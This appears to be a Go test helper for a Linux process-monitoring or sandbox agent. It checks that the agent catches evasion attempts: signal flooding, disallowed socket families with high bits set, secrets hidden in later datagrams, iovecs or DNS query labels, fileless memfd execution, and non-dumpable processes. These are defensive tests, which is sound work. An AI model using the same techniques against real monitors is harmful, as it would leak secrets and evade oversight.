//go:build linux && amd64

package agenttest

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Signals sends every signal 1..64 but those skip names to pid, three
// ways: kill, tgkill to each of its threads, and rt_sigqueueinfo with a
// queued si_code (which the Go runtime takes for a real fault unless the
// signal is ignored). It returns one line per signal with what each call
// returned.
func Signals(pid int, skip func(sig int) bool) []string {
	var tids []int
	if ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid)); err == nil {
		for _, e := range ents {
			if n, err := strconv.Atoi(e.Name()); err == nil {
				tids = append(tids, n)
			}
		}
	}
	var out []string
	for sig := 1; sig <= 64; sig++ {
		if skip != nil && skip(sig) {
			continue
		}
		kill := syscall.Kill(pid, syscall.Signal(sig))
		var tg error
		for _, tid := range tids {
			if err := syscall.Tgkill(pid, tid, syscall.Signal(sig)); err != nil {
				tg = err
			}
		}
		// siginfo_t: signo, errno, code (SI_QUEUE = -1), pid, uid.
		var info [128]byte
		binary.LittleEndian.PutUint32(info[0:], uint32(sig))
		binary.LittleEndian.PutUint32(info[8:], uint32(0xffffffff))
		binary.LittleEndian.PutUint32(info[12:], uint32(os.Getpid()))
		binary.LittleEndian.PutUint32(info[16:], uint32(os.Getuid()))
		_, _, e := unix.Syscall(unix.SYS_RT_SIGQUEUEINFO, uintptr(pid), uintptr(sig), uintptr(unsafe.Pointer(&info[0])))
		var q error
		if e != 0 {
			q = e
		}
		out = append(out, fmt.Sprintf("%d %s: kill %v, tgkill %v, sigqueue %v", sig, unix.SignalName(syscall.Signal(sig)), errText(kill), errText(tg), errText(q)))
	}
	return out
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	if en, ok := err.(syscall.Errno); ok {
		if n := unix.ErrnoName(en); n != "" {
			return n
		}
	}
	return err.Error()
}

// Socket is a socket() call to make.
type Socket struct {
	Name                   string
	Family, Type, Protocol uint64
	Refused                bool // the agent must refuse it (EAFNOSUPPORT)
}

// Sockets are the families tried: the refused ones (a family with its
// upper 32 bits set too, which the kernel ignores) and the allowed ones.
// A raw inet socket is inet: allowed by the agent, refused by the kernel
// without CAP_NET_RAW.
var Sockets = []Socket{
	{Name: "vsock", Family: unix.AF_VSOCK, Type: unix.SOCK_STREAM, Refused: true},
	{Name: "packet", Family: unix.AF_PACKET, Type: unix.SOCK_RAW, Refused: true},
	{Name: "bluetooth", Family: unix.AF_BLUETOOTH, Type: unix.SOCK_STREAM, Protocol: 3, Refused: true},
	{Name: "alg", Family: unix.AF_ALG, Type: unix.SOCK_SEQPACKET, Refused: true},
	{Name: "netlink:15", Family: unix.AF_NETLINK, Type: unix.SOCK_DGRAM, Protocol: unix.NETLINK_KOBJECT_UEVENT, Refused: true},
	{Name: "vsock-upper", Family: 1<<32 | unix.AF_VSOCK, Type: unix.SOCK_STREAM, Refused: true},
	{Name: "unix", Family: unix.AF_UNIX, Type: unix.SOCK_STREAM},
	{Name: "inet", Family: unix.AF_INET, Type: unix.SOCK_DGRAM},
	{Name: "inet6", Family: unix.AF_INET6, Type: unix.SOCK_STREAM},
	{Name: "netlink:0", Family: unix.AF_NETLINK, Type: unix.SOCK_DGRAM, Protocol: unix.NETLINK_ROUTE},
}

// MakeSockets creates (and closes) each socket, never connecting one, and
// returns "name errno" lines ("name ok" for a socket made).
func MakeSockets() []string {
	var out []string
	for _, s := range Sockets {
		fd, _, e := unix.RawSyscall(unix.SYS_SOCKET, uintptr(s.Family), uintptr(s.Type), uintptr(s.Protocol))
		if e != 0 {
			out = append(out, s.Name+" "+errText(e))
			continue
		}
		unix.Close(int(fd))
		out = append(out, s.Name+" ok")
	}
	return out
}

func sockaddr(port int) *unix.SockaddrInet4 {
	return &unix.SockaddrInet4{Port: port, Addr: Dest}
}

func udp() (int, error) {
	if err := Offline(); err != nil {
		return -1, err
	}
	return unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
}

type mmsghdr struct {
	hdr unix.Msghdr
	len uint32
	_   [4]byte
}

func rawSockaddr(port int) unix.RawSockaddrInet4 {
	sa := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: Dest}
	binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&sa.Port))[:], uint16(port))
	return sa
}

// sent takes the unreachable network as success: the datagram was handed
// to the kernel, which had nowhere to send it.
func sent(e syscall.Errno) error {
	if e == 0 || e == unix.ENETUNREACH || e == unix.EHOSTUNREACH {
		return nil
	}
	return e
}

// SendmsgIovecs sends one datagram of two buffers, the secret in the second.
func SendmsgIovecs(secret string) error {
	fd, err := udp()
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_, err = unix.SendmsgBuffers(fd, [][]byte{[]byte("harmless first buffer "), []byte("second " + secret)}, nil, sockaddr(PortIovec), 0)
	return sent(errno(err))
}

func errno(err error) syscall.Errno {
	var e syscall.Errno
	if errors.As(err, &e) {
		return e
	}
	if err != nil {
		return unix.EINVAL
	}
	return 0
}

// SecondDatagram sends two datagrams to one destination, the secret only
// in the second.
func SecondDatagram(secret string) error {
	fd, err := udp()
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := sent(errno(unix.Sendto(fd, []byte("first, harmless"), 0, sockaddr(PortDatagram)))); err != nil {
		return err
	}
	return sent(errno(unix.Sendto(fd, []byte("second "+secret), 0, sockaddr(PortDatagram))))
}

// BigSend sends two datagrams of n bytes each in one sendmmsg (together
// over the agent's payload bound, to be marked truncated).
func BigSend(n int) error {
	fd, err := udp()
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	sa := rawSockaddr(PortBig)
	buf := make([]byte, n)
	iov := unix.Iovec{Base: &buf[0], Len: uint64(n)}
	var hdrs [2]mmsghdr
	for i := range hdrs {
		hdrs[i].hdr = unix.Msghdr{Name: (*byte)(unsafe.Pointer(&sa)), Namelen: uint32(unsafe.Sizeof(sa)), Iov: &iov, Iovlen: 1}
	}
	_, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&hdrs[0])), 2, 0, 0, 0)
	return sent(e)
}

// DNSSecondQuestion sends one DNS query of two questions to ip:53, the
// secret a label of the second.
func DNSSecondQuestion(ip [4]byte, secret string) error {
	if ip != [4]byte{127, 0, 0, 1} {
		if err := Offline(); err != nil {
			return err
		}
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	q := DNSQuery("harmless.example.com", strings.ToLower(secret)+".example.com")
	return sent(errno(unix.Sendto(fd, q, 0, &unix.SockaddrInet4{Port: 53, Addr: ip})))
}

// ExecMemfd copies the program at self into a memfd named name and runs it
// from there with the given arguments.
func ExecMemfd(self, name string, args ...string) error {
	b, err := os.ReadFile(self)
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate(name, 0)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), name)
	defer f.Close()
	if _, err := f.Write(b); err != nil {
		return err
	}
	cmd := exec.Command(fmt.Sprintf("/proc/self/fd/%d", 3), args...)
	cmd.ExtraFiles = []*os.File{f}
	cmd.Args[0] = "memfd-program"
	return cmd.Run()
}

// NonDumpable makes the process non-dumpable, then connects a UDP socket
// and sends a datagram to Dest (the agent, unable to read the addresses,
// must refuse both), and runs prog with args from there (its child is
// non-dumpable until its exec). It returns what each step returned.
func NonDumpable(prog string, args ...string) ([]string, error) {
	fd, err := udp()
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	if err := unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0); err != nil {
		return nil, err
	}
	out := []string{"connect " + errText(unix.Connect(fd, sockaddr(9)))}
	out = append(out, "sendto "+errText(unix.Sendto(fd, []byte("hidden"), 0, sockaddr(10))))
	out = append(out, "exec "+errText(exec.Command(prog, args...).Run()))
	return out, nil
}

// SendMmsg sends n datagrams in one sendmmsg, the secret only in the
// datagram at index at.
func SendMmsg(secret string, n, at int) error {
	fd, err := udp()
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	sa := rawSockaddr(PortMmsg)
	bufs := make([][]byte, n)
	iovs := make([]unix.Iovec, n)
	hdrs := make([]mmsghdr, n)
	for i := range bufs {
		bufs[i] = []byte(fmt.Sprintf("datagram %d of %d", i, n))
		if i == at {
			bufs[i] = []byte("datagram " + secret)
		}
		iovs[i] = unix.Iovec{Base: &bufs[i][0], Len: uint64(len(bufs[i]))}
		hdrs[i].hdr = unix.Msghdr{Name: (*byte)(unsafe.Pointer(&sa)), Namelen: uint32(unsafe.Sizeof(sa)), Iov: &iovs[i], Iovlen: 1}
	}
	_, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&hdrs[0])), uintptr(n), 0, 0, 0)
	return sent(e)
}
